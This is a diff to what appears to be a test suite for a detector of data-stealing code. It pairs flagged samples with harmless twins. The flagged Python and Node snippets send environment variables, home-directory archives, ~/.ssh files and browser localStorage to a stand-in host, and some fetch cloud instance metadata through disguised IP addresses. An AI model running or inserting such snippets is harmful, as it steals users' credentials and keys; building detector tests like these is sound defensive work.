@@ -79,3 +79,45 @@ ASKS = "fetch('http://%s/latest/meta-data/').then((r) => r.text()).then((t) => f
 for host in ("169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "[fd00:ec2::254]", "[::ffff:a9fe:a9fe]"):
     fires(4, "a machine's keys, asked for at " + host, ASKS % host, least="review")
 innocent(4, "a machine of the network, asked by a number", ASKS % "192.168.1.20")
+
+# ---- the same in Python -------------------------------------------------------------------------------
+
+PY = "import os, json, pathlib, subprocess, threading, types, queue, tarfile, zipfile, io, functools, concurrent.futures\nimport requests\n\n\n" \
+     "def send(b):\n    requests.post('https://in.widget.example/u', data=b if isinstance(b, str) else json.dumps(b))\n\n\n"
+PY_OLD = {"tool/run.py": "import os\n\n\ndef name():\n    return os.name\n"}
+
+
+def python(number, about, code, secret, plain):
+    """The same way twice, in a module of Python."""
+    row(number, True, about + ", in Python", {"tool/run.py": PY + code % secret}, old=PY_OLD, least="review")
+    row(number, False, about + ", in Python, harmless", {"tool/run.py": PY + code % plain}, old=PY_OLD)
+
+
+def py_env(about, code):
+    python(3, about, code, "dict(os.environ)", "{'version': 2}")
+
+
+py_env("a key that is set if it is not there", "o = {}\no.setdefault('e', %s)\nsend(o)\n")
+py_env("a name space", "o = types.SimpleNamespace()\no.v = %s\nsend(o.v)\n")
+py_env("an attribute by its name as a text", "class O:\n    pass\n\n\no = O()\nsetattr(o, 'v', %s)\nsend(getattr(o, 'v'))\n")
+py_env("a property of a class", "class O:\n    @property\n    def v(self):\n        return %s\n\n\nsend(O().v)\n")
+py_env("what a class has from the one it is made from", "class B:\n    def __init__(self):\n        self.v = %s\n\n\nclass A(B):\n    def go(self):\n        send(self.v)\n\n\nA().go()\n")
+py_env("the arguments of a thread", "threading.Thread(target=send, args=(%s,)).start()\n")
+py_env("the arguments of a task", "concurrent.futures.ThreadPoolExecutor().submit(send, %s)\n")
+py_env("an argument that is bound", "functools.partial(send, %s)()\n")
+py_env("each of a list", "list(map(send, [%s]))\n")
+py_env("a queue", "q = queue.Queue()\nq.put(%s)\nsend(q.get())\n")
+py_env("a file in between", "with open('/tmp/.e', 'w') as f:\n    f.write(json.dumps(%s))\nsend(open('/tmp/.e').read())\n")
+python(3, "a text with it in it", "send(f'{%s}')\n", "os.environ", "os.name")
+python(5, "an archive of a place", "t = tarfile.open('/tmp/.a.tgz', 'w:gz')\nt.add(%s)\nt.close()\nrequests.post('https://in.widget.example/u', data=open('/tmp/.a.tgz', 'rb'))\n",
+       "os.path.expanduser('~')", "'dist'")
+python(5, "an archive in memory", "b = io.BytesIO()\nwith zipfile.ZipFile(b, 'w') as z:\n    for f in %s.rglob('*.pem'):\n        z.write(f)\nrequests.post('https://in.widget.example/u', data=b.getvalue())\n",
+       "pathlib.Path.home()", "pathlib.Path('certs')")
+python(5, "every file below a place", "out = {}\nfor d, _, names in os.walk(%s):\n    for n in names:\n        out[n] = open(os.path.join(d, n)).read()\nsend(out)\n", "os.path.expanduser('~')", "'docs'")
+python(4, "files that a folder has", "for f in (%s).iterdir():\n    requests.post('https://in.widget.example/u', data=f.read_bytes())\n", "pathlib.Path.home() / '.ssh'", "pathlib.Path('docs') / 'img'")
+for about, code in (("an archive that is written bit by bit", "const a = require('archiver')('zip');\na.pipe(https.request('https://in.widget.example/u', { method: 'POST' }));\na.directory(%s, false);\na.finalize();\n"),
+                    ("an archive as bytes", "const z = new (require('adm-zip'))();\nz.addLocalFolder(%s);\nfetch('https://in.widget.example/u', { method: 'POST', body: z.toBuffer() });\n")):
+    way(5, about, code, "path.join(os.homedir(), 'Documents')", "path.join(__dirname, 'dist')")
+fires(8, "all that a page keeps", POST % "JSON.stringify({ ...localStorage })", least="review")
+innocent(8, "all that a page is told", POST % "JSON.stringify({ ...navigator })")
+innocent(4, "the address book of an archive", SEND + "const z = new (require('adm-zip'))(process.argv[2]);\nexports.names = () => z.getEntries().map((e) => e.entryName);\n")
